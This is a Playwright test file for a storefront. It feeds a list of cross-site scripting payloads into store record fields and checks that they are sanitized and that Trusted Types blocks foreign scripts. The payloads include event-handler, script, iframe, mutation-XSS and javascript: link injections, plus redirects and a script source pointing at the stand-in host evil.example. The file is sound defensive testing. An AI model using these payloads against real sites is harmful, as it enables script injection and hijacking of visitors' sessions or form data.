import { nextOpenDay } from './support/order';
import { sendShell } from './support/send-shell';
import { expect, test } from './support/test';

const hostile = [
  '<p onclick="window.pwned=1" style="position:fixed;inset:0">Venlig tekst</p>',
  '<img src=x onerror="window.pwned=2">',
  '<script>window.pwned=3</script>',
  '<style>body{display:none}</style>',
  '<svg onload="window.pwned=4"><script>window.pwned=5</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=6</script>"></iframe>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '<a href="javascript:window.pwned=7">Et link</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.pwned=8>">',
  `<p>${'langtordudenmellemrum'.repeat(30)}</p>`,
].join('\n');

test('hostile text in the store record runs no script, widens no policy and causes no violation', async ({
  page,
}) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('evil.example')) foreign.push(request.url());
  });
  await sendShell(page.context());
  await page.route('**/api/v1/store', async (route) => {
    const answer = await route.fetch();
    const { data } = await answer.json();
    Object.assign(data.attributes, { left_footer_text: hostile, right_footer_text: hostile });
    Object.assign(data.attributes.takeaway_section, { menu_text: hostile, cart_text: hostile });
    data.attributes.pages = [{ name: 'Fjendtlig', url: 'fjendtlig', show_in_menu: true, content: hostile }];
    await route.fulfill({ response: answer, json: { data } });
  });
  // The missing picture is requested from this site, as the store's pictures are.
  await page.route('**/x', (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
  );
  await page.setViewportSize({ width: 375, height: 740 });

  for (const path of ['/fjendtlig', `/takeaway/${nextOpenDay()}`, '/takeaway/cart']) {
    await page.goto(path);
    await expect(page.getByText('Venlig tekst').first()).toBeVisible();
    await page.getByText('Venlig tekst').first().click();
    await expect(
      page
        .locator('.prose')
        .locator('script, style, svg, iframe, form, base, meta, [style], [onclick], a[href]'),
    ).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    expect(
      await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth),
    ).toBeLessThanOrEqual(0);
  }
  expect(foreign).toEqual([]);
});

test.describe('a page under Trusted Types', () => {
  test.use({
    expectedComplaint: /TrustedHTML|TrustedScriptURL|Trusted ?Type|require-trusted-types-for|trusted-types/,
  });

  test('accepts no plain text as HTML, no foreign script and no further policy', async ({ page }) => {
    await page.goto('/');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const refused = await page.evaluate(() => {
      const isRefused = (act: () => void) => {
        try {
          act();
          return false;
        } catch (error) {
          return error instanceof TypeError;
        }
      };
      const scriptOf = (src: string) => () => (document.createElement('script').src = src);
      return {
        html: isRefused(() => (document.createElement('div').innerHTML = '<b>fed</b>')),
        upload: isRefused(scriptOf('/storage/upload.js')),
        elsewhere: isRefused(scriptOf('https://evil.example/x.js')),
        policy: isRefused(
          () =>
            void (
              window as { trustedTypes?: { createPolicy(name: string, rules: object): void } }
            ).trustedTypes?.createPolicy('mine', {}),
        ),
        own: isRefused(scriptOf('/assets/main.js')),
      };
    });
    expect(refused).toEqual({ html: true, upload: true, elsewhere: true, policy: true, own: false });
  });
});
